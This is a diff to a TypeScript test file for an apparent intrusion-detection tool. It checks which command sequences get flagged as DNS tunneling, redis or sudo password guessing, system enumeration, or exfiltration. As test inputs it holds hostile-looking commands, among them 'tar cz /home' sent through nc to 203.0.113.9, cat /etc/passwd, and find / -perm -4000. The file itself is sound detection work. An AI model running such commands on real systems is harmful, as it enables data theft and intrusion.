@@ -49,6 +49,24 @@ test.each<[string, string[], string[]]>([
   ['a new token for each request', times(6, (i) => `curl -H Authorization:t${i} http://h/`), []],
   ['a health check', times(20, () => 'dig @127.0.0.1 www.example.test +short'), []],
   ['data in names', times(6, (i) => `dig +short ${label(i)}.t.example TXT`), ['proves dns-tunnel']],
+  [
+    'data in names, by the C library',
+    times(6, (i) => `getent hosts ${label(i)}.t.example`),
+    ['proves dns-tunnel'],
+  ],
+  ['one long name', times(6, (i) => `dig +tries=${i} ${label(1)}.t.example TXT`), []],
+  [
+    'passwords by redis-cli',
+    times(6, (i) => `redis-cli -h h -a pw${i} PING`),
+    ['proves password-guessing'],
+  ],
+  ['one password by redis-cli', times(6, () => 'redis-cli -a pw PING'), []],
+  [
+    'all there is to know',
+    ['id', 'cat /etc/passwd', 'uname -a', 'ps aux', 'ss -tlnp', 'find / -perm -4000'],
+    ['supports enumeration'],
+  ],
+  ['a look around without more', ['id', 'uname -a', 'ps aux', 'ss -tlnp', 'ip addr', 'w'], []],
   ['names of a cloud', times(9, (i) => `dig k8s-web-ab${i}.elb.eu-west-1.amazonaws.com`), []],
   ['an archive by nc', ['tar cz /home', 'nc -N 203.0.113.9 8091'], ['supports exfiltration']],
   [
@@ -80,6 +98,34 @@ test.each<[string, string[], string[]]>([
   ['two questions', ['id', 'uname -a', 'id'], []],
 ])('%s asks %p', (_, commands, expected) => {
   expect(run(commands).asked).toEqual(expected)
+})
+
+test('who is not root gives sudo passwords; ansible asks for something else each time', () => {
+  const calls = times(6, () => 'sudo -k -S id')
+  expect(run(calls, { uid: 1000 }).proofs).toEqual(['proves password-guessing'])
+  const tasks = times(6, (i) => `sudo -H -S -p [via ansible, key=${i}] -u root sh -c ${i}`)
+  expect(run(tasks, { uid: 1000 }).proofs).toEqual([])
+})
+
+test('a shell that connects by itself beside an archive sends it', () => {
+  const lineage = new Lineage()
+  const found = new Commands(lineage)
+  const questions = (peer: string) => {
+    const frame = frameOf(1_010, [
+      {
+        ...{ pid: STARTER, name: 'bash', startMs: 1_000, counts: { connect: 1 } },
+        activity: { contacts: 1, peer },
+      },
+      {
+        ...{ pid: 100, name: 'tar', startMs: 1_010_000, ppid: STARTER, command: 'tar cz /home' },
+        counts: { execve: 1 },
+      },
+    ])
+    lineage.push(frame)
+    return found.push(frame).proofs.map(({ finding: { says, question } }) => `${says} ${question}`)
+  }
+  expect(questions('127.0.0.1:80')).toEqual([])
+  expect(questions('203.0.113.9:80')).toEqual(['supports exfiltration'])
 })
 
 test('questions of two minutes do not belong together', () => {
